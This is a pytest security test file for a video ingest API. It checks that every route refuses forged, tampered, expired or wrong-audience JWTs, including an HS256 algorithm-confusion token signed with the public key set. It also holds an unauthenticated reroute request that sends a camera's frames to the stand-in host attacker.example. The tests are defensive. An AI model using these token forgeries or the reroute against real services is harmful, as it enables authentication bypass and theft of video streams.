"""Issue 10: every route of the ingest API is authenticated by scope, on a real server.

The attack matrix tries every REST route and the results WebSocket with no
token, a tampered one, one under an unknown key, expired, not yet valid, for
another service, without the scope, and with what a worker holds (its tunnel
token; the public key set used as an HS256 secret). Each is refused (401/403)
before any effect: streams, store, routing table and results sent stay as
they were. Then the regressions the issue quotes, throttling (429) and 422s.
"""

from __future__ import annotations

import base64
import json
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx
import pytest
from websockets.asyncio.client import connect
from websockets.exceptions import InvalidStatus

from framerelay.auth import KeySet
from framerelay.auth.web import route_scopes
from ingest.app import create_app
from tests.support.auth import ed_keys, hs256_by_hand, mint
from tests.support.fixtures import media  # noqa: F401 - fixture
from tests.support.ingest_api import Ingest, client, running_ingest
from tests.support.media import Media

DOCS = {("GET", p) for p in ("/openapi.json", "/docs", "/redoc", "/docs/assets/{name}")}
"""Open: the API's description (framerelay.openapi_docs), no data."""
CONSOLE = {("GET", "/console"), ("GET", "/console/assets/{name}")}
"""Open: the console's page and assets (ingest.console), no data: the page asks for a token."""
OPEN = {("GET", "/healthz"), ("GET", "/readyz"), ("GET", "/metrics"), *DOCS, *CONSOLE}
SCOPES = {
    ("GET", "/v1/streams"): "streams:read",
    ("POST", "/v1/streams"): "streams:write",
    ("GET", "/v1/streams/{stream_id}"): "streams:read",
    ("PUT", "/v1/streams/{stream_id}"): "streams:write",
    ("DELETE", "/v1/streams/{stream_id}"): "streams:write",
    ("PUT", "/v1/streams/{stream_id}/worker"): "routing:write",
    ("DELETE", "/v1/streams/{stream_id}/worker"): "routing:write",
    ("GET", "/v1/routing"): "streams:read",
    ("POST", "/v1/rtt"): "routing:write",
    ("GET", "/v1/workers"): "streams:read",
    ("GET", "/v1/history"): "streams:read",
    ("WS", "/v1/results"): None,  # the hub checks results:<id> itself, before the upgrade
    ("GET", "/v1/console/session"): "streams:read",
    ("GET", "/v1/console/streams"): "streams:read",
    ("GET", "/v1/console/streams/{stream_id}/live"): "results:{stream_id}",
    ("GET", "/v1/console/fleet"): "streams:read",
    ("GET", "/v1/console/jobs"): "streams:read",
}


def _cam(clips: Media, sid: str, **extra: Any) -> dict[str, Any]:
    return {"id": sid, "url": str(clips.short("mp4")), "realtime": True, "loop": True, **extra}


def _bodies(clips: Media) -> dict[tuple[str, str], Any]:
    return {
        ("POST", "/v1/streams"): _cam(clips, "intruder"),
        ("PUT", "/v1/streams/{stream_id}"): _cam(clips, "cam-1", fps=1),
        ("PUT", "/v1/streams/{stream_id}/worker"): {
            "worker_id": "evil", "url": "ws://127.0.0.1:9/v1/tunnel"},
        ("POST", "/v1/rtt"): {"worker_id": "evil", "url": "ws://127.0.0.1:9/v1/tunnel"},
    }  # fmt: skip


def _tampered(ingest: Ingest) -> str:
    """A valid streams:read token whose claims were edited to grant everything."""
    head, claims, sig = ingest.token("streams:read").split(".")
    raw = json.loads(base64.urlsafe_b64decode(claims + "=" * (-len(claims) % 4)))
    raw["scope"] = "streams:read streams:write routing:write results:*"
    edited = base64.urlsafe_b64encode(json.dumps(raw).encode()).rstrip(b"=").decode()
    return f"{head}.{edited}.{sig}"


def _public_as_secret(keys: KeySet) -> str:
    """HS256 "signed" with the public key set (what a worker holds) under the real kid: the
    algorithm-confusion attack (built by hand: PyJWT itself refuses to do it)."""
    now = int(time.time())
    claims = {"iss": "framerelay", "sub": "pod", "aud": "framerelay-ingest", "iat": now,
              "nbf": now, "exp": now + 60, "scope": "streams:read streams:write routing:write "
              "results:*"}  # fmt: skip
    public = json.dumps(keys.public().to_jwks()).encode()
    return hs256_by_hand(claims, public, {"typ": "JWT", "kid": keys.kids[0]})


Case = tuple[str, Callable[[Ingest, str], str | None], int]
CASES: list[Case] = [
    ("no token", lambda i, s: None, 401),
    ("tampered", lambda i, s: _tampered(i), 401),
    ("unknown key", lambda i, s: mint(ed_keys(), [s], "ingest"), 401),
    ("expired", lambda i, s: i.token(s, now=time.time() - 3600), 401),
    ("not yet valid", lambda i, s: i.token(s, now=time.time() + 3600), 401),
    ("tunnel audience", lambda i, s: i.token(s, aud="worker"), 401),
    ("orchestrator audience", lambda i, s: i.token(s, aud="orchestrator"), 401),
    ("a worker's tunnel token", lambda i, s: i.token("worker:*", aud="worker"), 401),
    ("public keys as HS256", lambda i, s: _public_as_secret(i.keys), 401),  # type: ignore[arg-type]
    ("wrong scope", lambda i, s: i.token("metrics:read", "results:cam-2" if s.startswith(
        "results:") else "results:*"), 403),
]  # fmt: skip


async def _try_rest(http: httpx.AsyncClient, method: str, path: str, body: Any,
                    token: str | None) -> httpx.Response:  # fmt: skip
    headers = {"Authorization": f"Bearer {token}"} if token else {}
    url = path.replace("{stream_id}", "cam-1")
    return await http.request(method, url, json=body, headers=headers)


async def _try_ws(ingest: Ingest, token: str | None) -> int:
    headers = {"Authorization": f"Bearer {token}"} if token else {}
    with pytest.raises(InvalidStatus) as info:
        async with connect(f"{ingest.ws}?stream=cam-1", additional_headers=headers, proxy=None):
            pass
    return info.value.response.status_code


def _state(ingest: Ingest) -> dict[str, Any]:
    svc = ingest.service
    return {
        "streams": {sid: s.config.model_dump(mode="json") for sid, s in svc.streams.items()},
        "default_worker": sorted(svc.client.streams),
        "routing": dict(svc.registry.where),
        "tunnels": sorted(svc.registry.clients),
        "store": ingest.store_path.read_text(),
        "results_sent": ingest.registry.get_sample_value("framerelay_hub_results_sent_total"),
        "subscribers": ingest.registry.get_sample_value("framerelay_hub_subscribers"),
    }


def test_every_route_is_declared_with_its_scope(tmp_path: Path) -> None:
    """A new route without a scope (or an open one) fails here until it is decided."""
    from ingest.service import IngestService
    from tests.support.ingest_api import settings_for

    app = create_app(IngestService(settings_for("x" * 32, tmp_path)))
    scopes = route_scopes(app)
    assert set(scopes) == OPEN | set(SCOPES)
    assert {k: v for k, v in scopes.items() if k not in OPEN} == SCOPES
    assert all(scopes[k] is None for k in OPEN)


async def test_attack_matrix_every_route_refused_and_nothing_changes(
    media: Media,  # noqa: F811
    tmp_path: Path,
) -> None:
    keys = ed_keys("primary")
    bodies = _bodies(media)

    async with running_ingest(keys, tmp_path) as ingest, client(ingest) as http:
        r = await http.post("/v1/streams", json=_cam(media, "cam-1"), headers=ingest.auth())
        assert r.status_code == 201, r.text
        before = _state(ingest)
        wrong: list[str] = []
        for case, make, want in CASES:
            for (method, path), scope in SCOPES.items():
                token = make(ingest, scope or "results:cam-1")
                if method == "WS":
                    got = await _try_ws(ingest, token)
                    text = ""
                else:
                    resp = await _try_rest(http, method, path, bodies.get((method, path)), token)
                    got, text = resp.status_code, resp.text
                if got != want:
                    wrong.append(f"{case}: {method} {path} -> {got} (want {want}) {text}")
        assert _state(ingest) == before
        assert ingest.service.streams["cam-1"].config.fps == 5
    assert wrong == []
    for reason in ("missing", "bad_signature", "unknown_key", "expired", "not_yet_valid",
                   "wrong_audience", "scope"):  # fmt: skip
        assert ingest.refused(reason) > 0, reason
    assert keys.signer().jwk["d"] not in ingest.metrics()


async def test_the_right_scope_is_enough(media: Media, tmp_path: Path) -> None:  # noqa: F811
    async with running_ingest("s" * 32, tmp_path) as ingest, client(ingest) as http:
        write, read = ingest.auth("streams:write"), ingest.auth("streams:read")
        assert (
            await http.post("/v1/streams", json=_cam(media, "a"), headers=write)
        ).status_code == 201
        assert (await http.get("/v1/streams", headers=read)).status_code == 200
        assert (await http.get("/v1/streams/a", headers=read)).status_code == 200
        assert (await http.get("/v1/routing", headers=read)).json() == {}
        route = {"worker_id": "w", "url": "ws://127.0.0.1:9/v1/tunnel"}
        r = await http.put("/v1/streams/a/worker", headers=ingest.auth("routing:write"), json=route)
        assert r.status_code == 200 and r.json()["changed"]
        assert (await http.get("/v1/routing", headers=read)).json() == {"a": "w"}
        assert (await http.delete("/v1/streams/a", headers=write)).status_code == 204
        for path in ("/healthz", "/readyz", "/metrics", "/openapi.json", "/docs", "/redoc"):
            assert (await http.get(path)).status_code == 200, path


async def test_unauthenticated_reroute_is_refused_and_routing_unchanged(
    media: Media,  # noqa: F811
    tmp_path: Path,
) -> None:
    """Issue 10: ``PUT /v1/streams/cam-1/worker {"url": "ws://attacker/..."}`` answered 200
    and cam-1's frames went there."""

    async with running_ingest("s" * 32, tmp_path) as ingest, client(ingest) as http:
        await http.post("/v1/streams", json=_cam(media, "cam-1"), headers=ingest.auth())
        evil = {"worker_id": "evil", "url": "ws://attacker.example:8443/v1/tunnel"}
        r = await http.put("/v1/streams/cam-1/worker", json=evil)
        assert r.status_code == 401 and "Authorization" in r.json()["detail"]
        assert r.headers["www-authenticate"].startswith("Bearer")
        r = await http.put("/v1/streams/cam-1/worker", content=b"{not json")  # still 401
        assert r.status_code == 401
        routing = await http.get("/v1/routing", headers=ingest.auth("streams:read"))
        assert routing.json() == {}
        assert ingest.service.registry.where == {"cam-1": "default"}  # still on its own
        assert list(ingest.service.registry.clients) == ["default"]  # worker


async def test_unauthenticated_add_is_refused_and_adds_nothing(
    media: Media,  # noqa: F811
    tmp_path: Path,
) -> None:
    """Issue 10: an unauthenticated ``POST /v1/streams`` added a camera."""

    async with running_ingest("s" * 32, tmp_path) as ingest, client(ingest) as http:
        r = await http.post("/v1/streams", json=_cam(media, "intruder"))
        assert r.status_code == 401
        r = await http.post("/v1/streams", content=b"[", headers={"content-type": "json"})
        assert r.status_code == 401  # a malformed body without a token: 401, not 422
        assert ingest.service.streams == {}
        assert not ingest.store_path.exists()


async def test_plain_ws_to_a_remote_worker_is_refused(media: Media, tmp_path: Path) -> None:  # noqa: F811
    async def placed_with(allow: bool) -> tuple[list[httpx.Response], dict[str, str]]:
        async with (
            running_ingest("s" * 32, tmp_path, allow_insecure_workers=allow) as ingest,
            client(ingest) as http,
        ):
            await http.post("/v1/streams", json=_cam(media, "cam-1"), headers=ingest.auth())
            answers = []
            for body in (
                {"worker_id": "w", "url": "ws://gpu.example.com:8443/v1/tunnel"},
                {"worker_id": "w", "url": "ws://10.1.2.3:8443/v1/tunnel"},
                {"worker_id": "w", "url": "ws://127.0.0.1:9/v1/tunnel",
                 "tls_server_name": "w.pods.framerelay"},
            ):  # fmt: skip
                answers.append(await http.put("/v1/streams/cam-1/worker", json=body,
                                              headers=ingest.auth("routing:write")))  # fmt: skip
            return answers, ingest.service.registry.placed()

    answers, where = await placed_with(allow=False)
    assert [a.status_code for a in answers] == [422, 422, 422]
    assert "refusing plain ws:// to worker host 'gpu.example.com'" in answers[0].text
    assert "wss://" in answers[0].text and "ALLOW_INSECURE_WORKERS" in answers[0].text
    assert "tls_server_name needs a wss://" in answers[2].text
    assert where == {}  # nothing moved, not even adopted
    answers, where = await placed_with(allow=True)
    assert [a.status_code for a in answers][:2] == [200, 200]
    assert where == {"cam-1": "w"}


async def test_422_bodies_echo_no_submitted_value(media: Media, tmp_path: Path) -> None:  # noqa: F811
    async with running_ingest("s" * 32, tmp_path) as ingest, client(ingest) as http:
        h = ingest.auth()
        bad_stream = {**_cam(media, "x", username="u", password="hunter2-pw"), "colour": 1}
        bad_route = {
            "worker_id": "w",
            "url": "wss://u:hunter2-pw@gpu.example/v1/tunnel",
            "stream": {"id": "x", "url": "rtsp://u:hunter2-pw@cam/x", "fps": -1},
            "tls_server_name": "not a name hunter2-pw",
        }
        answers = [
            await http.post("/v1/streams", json=bad_stream, headers=h),
            await http.put("/v1/streams/x/worker", json=bad_route, headers=h),
        ]
    for r in answers:
        assert r.status_code == 422, r.text
        assert "hunter2" not in r.text and "input" not in r.json()["detail"][0]


async def test_failed_authentications_are_throttled_per_peer(tmp_path: Path) -> None:
    async with (
        running_ingest("s" * 32, tmp_path, auth_max_failures=3, auth_window_s=30) as ingest,
        client(ingest) as http,
    ):
        bad = {"Authorization": "Bearer not-a-token"}
        answers = [await http.get("/v1/streams", headers=bad) for _ in range(4)]
        answers.append(await http.get("/v1/streams", headers=ingest.auth()))  # good: served
        answers.append(await http.get("/v1/streams", headers=ingest.auth("results:*")))
        ws_status = await _try_ws(ingest, None)
        assert (await http.get("/healthz")).status_code == 200  # open routes stay open
    assert [a.status_code for a in answers] == [401, 401, 401, 429, 200, 403]
    assert ws_status == 429
    throttled = answers[3]
    assert 1 <= int(throttled.headers["retry-after"]) <= 30
    assert "too many failed authentications" in throttled.json()["detail"]
    assert ingest.refused("throttled") == 2 and ingest.refused("malformed") == 3


async def test_metrics_can_require_a_token(tmp_path: Path) -> None:
    async with (
        running_ingest("s" * 32, tmp_path, metrics_auth=True) as ingest,
        client(ingest) as http,
    ):
        codes = [
            (await http.get("/metrics")).status_code,
            (await http.get("/metrics", headers=ingest.auth("streams:read"))).status_code,
            (await http.get("/metrics", headers=ingest.auth("metrics:read"))).status_code,
            (await http.get("/healthz")).status_code,
        ]
    assert codes == [401, 403, 200, 200]
